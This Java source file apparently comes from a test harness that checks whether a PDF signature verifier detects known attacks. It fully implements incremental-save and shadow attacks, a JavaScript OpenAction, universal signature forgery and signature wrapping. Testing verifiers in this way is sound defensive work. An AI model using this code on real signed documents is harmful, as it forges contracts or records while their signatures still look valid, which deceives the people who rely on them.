package yizheng.interop;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSDocument;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/**
 * Attacks of the published research on signed PDFs. Those of incremental saving and
 * the shadow attacks are saved by PDFBox; wrapping and forgery are written by hand
 * with PDFBox's knowledge of the file.
 */
final class Attacks {
    static byte[] of(String name, byte[] file) throws Exception {
        return switch (name) {
            case "wrap" -> wrapped(file, false);
            case "wrap-objects" -> wrapped(file, true);
            case "rewrite" -> rewritten(file);
            case "encrypt" -> encrypted(file);
            default -> name.startsWith("forge-") ? forged(name.substring(6), file) : appended(name, file);
        };
    }

    /** What one who checks only what the range covers would say, and what a viewer then shows. */
    static String deceives(byte[] changed) {
        return carelessly(changed) + ", shows " + shown(changed);
    }

    private static String carelessly(byte[] changed) {
        try {
            Field field = Field.of(changed);
            if (field.filter().equals("Adobe.PPKLite")) {
                Castle.messageOf(field);
            } else {
                Castle.signedRightly(field, field.structure());
            }
            return "signature right";
        } catch (Exception e) {
            return "signature wrong";
        }
    }

    private static String shown(byte[] changed) {
        try {
            String text = Box.text(changed);
            return text.contains(Box.FORGED) ? Box.FORGED : "no forgery";
        } catch (Exception e) {
            return "nothing";
        }
    }

    // --- incremental saving and shadow attacks ------------------------------------

    static byte[] appended(String name, byte[] file) throws Exception {
        try (PDDocument d = Loader.loadPDF(file)) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            d.saveIncremental(out, change(name, d));
            return out.toByteArray();
        }
    }

    /** Changes the document and returns what is to be written. */
    static Set<COSDictionary> change(String name, PDDocument d) throws Exception {
        COSDictionary catalog = d.getDocumentCatalog().getCOSObject();
        PDPage page = d.getPage(0);
        switch (name) {
            case "page" -> {
                Box.write(d, page, Box.helvetica(), Box.FORGED);
                return Set.of(page.getCOSObject());
            }
            case "pages" -> {
                PDPage other = new PDPage(PDRectangle.A4);
                Box.write(d, other, Box.helvetica(), Box.FORGED);
                COSArray kids = new COSArray();
                kids.add(other);
                COSDictionary tree = d.getPages().getCOSObject();
                tree.setItem(COSName.KIDS, kids);
                other.getCOSObject().setItem(COSName.PARENT, tree);
                return Set.of(tree);
            }
            case "added-page" -> {
                PDPage other = new PDPage(PDRectangle.A4);
                Box.write(d, other, Box.helvetica(), Box.FORGED);
                d.addPage(other);
                return Set.of(d.getPages().getCOSObject());
            }
            case "note" -> {
                PDAnnotationText note = new PDAnnotationText();
                note.setContents(Box.FORGED);
                note.setRectangle(new PDRectangle(100, 100, 20, 20));
                page.getAnnotations().add(note);
                return Set.of(page.getCOSObject(), note.getCOSObject());
            }
            case "field" -> {
                PDAcroForm form = d.getDocumentCatalog().getAcroForm(null);
                PDTextField field = new PDTextField(form);
                field.setPartialName("amount");
                field.getCOSObject().setString(COSName.V, Box.FORGED);
                form.getFields().add(field);
                return Set.of(form.getCOSObject(), field.getCOSObject());
            }
            case "appearance" -> {
                PDAnnotationWidget widget = d.getLastSignatureDictionary() == null ? null : d.getSignatureFields().get(0).getWidgets().get(0);
                PDAppearanceStream empty = new PDAppearanceStream(d);
                empty.setBBox(new PDRectangle(1, 1));
                PDAppearanceDictionary appearance = new PDAppearanceDictionary();
                appearance.setNormalAppearance(empty);
                widget.setAppearance(appearance);
                return Set.of(widget.getCOSObject());
            }
            case "unsign" -> {
                COSDictionary field = d.getSignatureFields().get(0).getCOSObject();
                field.removeItem(COSName.V);
                return Set.of(field);
            }
            case "title" -> {
                d.getDocumentInformation().setTitle(Box.FORGED);
                return Set.of(d.getDocumentInformation().getCOSObject(), catalog);
            }
            case "script" -> {
                COSDictionary action = new COSDictionary();
                action.setItem(COSName.S, COSName.getPDFName("JavaScript"));
                action.setString(COSName.JS, "app.alert(1)");
                catalog.setItem(COSName.OPEN_ACTION, action);
                return Set.of(catalog);
            }
            case "nothing" -> {
                return Set.of(catalog); // written again as it was
            }
            case "shadow-hide" -> {
                PDFormXObject overlay = (PDFormXObject) page.getResources().getXObject(COSName.getPDFName("Overlay"));
                try (var none = overlay.getContentStream().createOutputStream()) {
                    return Set.of(overlay.getCOSObject());
                }
            }
            case "shadow-replace" -> {
                COSDictionary font = page.getResources().getFont(page.getResources().getFontNames().iterator().next()).getCOSObject();
                COSDictionary encoding = font.getCOSDictionary(COSName.ENCODING);
                encoding.setItem(COSName.DIFFERENCES, Box.encoding(Box.FORGED).getCOSArray(COSName.DIFFERENCES));
                return Set.of(encoding, font);
            }
            case "shadow-both" -> {
                catalog.setItem(COSName.PAGES, catalog.getItem(Box.SPARE));
                return Set.of(catalog);
            }
            default -> throw new IllegalArgumentException(name);
        }
    }

    static byte[] rewritten(byte[] file) throws IOException {
        try (PDDocument d = Loader.loadPDF(file)) {
            return Box.saved(d);
        }
    }

    static byte[] encrypted(byte[] file) throws IOException {
        try (PDDocument d = Loader.loadPDF(file)) {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", "", new AccessPermission());
            policy.setEncryptionKeyLength(128);
            d.protect(policy);
            return Box.saved(d);
        }
    }

    // --- universal forgery ----------------------------------------------------------

    /** Replaces the signature dictionary, in an appended revision, by one that lacks what makes it one. */
    static byte[] forged(String how, byte[] file) throws Exception {
        try (PDDocument d = Loader.loadPDF(file)) {
            Field field = Field.of(file, d);
            String contents = " /Contents " + between(file, field.range()[1], field.range()[2]);
            String range = " /ByteRange " + Arrays.toString(field.range()).replace(",", "");
            switch (how) {
                case "no-contents" -> contents = "";
                case "null-contents" -> contents = " /Contents null";
                case "empty-contents" -> contents = " /Contents <>";
                case "zero-contents" -> contents = " /Contents <00>";
                case "no-range" -> range = "";
                case "null-range" -> range = " /ByteRange null";
                case "empty-range" -> range = " /ByteRange [ ]";
                case "zero-range" -> range = " /ByteRange [ 0 0 0 0 ]";
                case "negative-range" -> range = " /ByteRange [ 0 -1 -1 -1 ]";
                case "short-range" -> range = " /ByteRange [ 0 " + field.range()[1] + " ]";
                default -> throw new IllegalArgumentException(how);
            }
            COSDocument cos = d.getDocument();
            long number = number(d.getLastSignatureDictionary().getCOSObject());
            String object = number + " 0 obj\n<< /Type /Sig /Filter /" + field.filter() + " /SubFilter /" + field.subFilter() + range + contents + " >>\nendobj\n";
            int at = file.length + 1;
            String tail = "xref\n0 1\n0000000000 65535 f \n" + number + " 1\n" + entry(at)
                    + "trailer\n<< /Size " + cos.getTrailer().getInt(COSName.SIZE) + " /Root " + number(d.getDocumentCatalog().getCOSObject())
                    + " 0 R /Prev " + cos.getStartXref() + " >>\nstartxref\n" + (at + object.length()) + "\n%%EOF\n";
            return joined(file, latin("\n" + object + tail));
        }
    }

    // --- signature wrapping -----------------------------------------------------------

    /**
     * Moves the second signed part to the end and lays, between it and Contents, a new page, a signature
     * dictionary with the range of the moved parts, and a cross-reference table where the signed startxref points.
     */
    static byte[] wrapped(byte[] file, boolean objectsOnly) throws Exception {
        try (PDDocument d = Loader.loadPDF(file)) {
            COSDocument cos = d.getDocument();
            Field field = Field.of(file, d);
            int from = field.range()[1];
            int to = field.range()[2];
            byte[] rest = Arrays.copyOfRange(file, to, file.length);
            if (objectsOnly) {
                return joined(Arrays.copyOf(file, to), latin(">>\nendobj\n900 0 obj\n(" + Box.FORGED + ")\nendobj\n"), rest);
            }
            long signature = number(d.getLastSignatureDictionary().getCOSObject());
            long page = number(d.getPage(0).getCOSObject());
            long content = cos.getTrailer().getInt(COSName.SIZE);
            long table = cos.getStartXref();
            int moved = (int) (table - to) + 65536; // room for the table
            String text = "BT /F1 24 Tf 72 700 Td (" + Box.FORGED + ") Tj ET";
            Map<Long, String> objects = new TreeMap<>();
            objects.put(signature, "<< /Type /Sig /Filter /" + field.filter() + " /SubFilter /" + field.subFilter() + " /ByteRange [ 0 " + from + " "
                    + (to + moved) + " " + rest.length + " ] /Contents " + between(file, from, to) + " >>");
            objects.put(page, "<< /Type /Page /Parent " + number(d.getPages().getCOSObject()) + " 0 R /MediaBox [ 0 0 595 842 ] /Contents " + content
                    + " 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>");
            objects.put(content, "<< /Length " + text.length() + " >>\nstream\n" + text + "\nendstream");

            // Objects that do not fit before the place of the table stand behind it.
            Map<Long, Long> places = new TreeMap<>();
            for (Map.Entry<COSObjectKey, Long> e : cos.getXrefTable().entrySet()) {
                places.put(e.getKey().getNumber(), e.getValue() < to ? e.getValue() : e.getValue() + moved);
            }
            StringBuilder bodies = new StringBuilder();
            long behind = table + 20L * (content + 1) + 200;
            for (Map.Entry<Long, String> e : objects.entrySet()) {
                places.put(e.getKey(), behind + bodies.length());
                bodies.append(e.getKey()).append(" 0 obj\n").append(e.getValue()).append("\nendobj\n");
            }
            StringBuilder between = new StringBuilder(">>\nendobj\n");
            pad(between, (int) (table - to));
            between.append("xref\n0 ").append(content + 1).append("\n0000000000 65535 f \n");
            for (long n = 1; n <= content; n++) {
                between.append(places.containsKey(n) ? entry(places.get(n)) : "0000000000 65535 f \n");
            }
            between.append("trailer\n<< /Size ").append(content + 1).append(" /Root ").append(number(d.getDocumentCatalog().getCOSObject()))
                    .append(" 0 R >>\n");
            pad(between, (int) (behind - to));
            between.append(bodies);
            pad(between, moved);
            return joined(Arrays.copyOf(file, to), latin(between.toString()), rest);
        }
    }

    private static long number(COSDictionary object) {
        return object.getKey().getNumber();
    }

    private static void pad(StringBuilder s, int length) {
        if (s.length() > length) {
            throw new IllegalStateException("no room");
        }
        s.append(" ".repeat(length - s.length()));
    }

    private static String entry(long at) {
        return String.format("%010d 00000 n \n", at);
    }

    private static String between(byte[] file, int from, int to) {
        return new String(file, from, to - from, StandardCharsets.ISO_8859_1);
    }

    private static byte[] latin(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private Attacks() {}
}
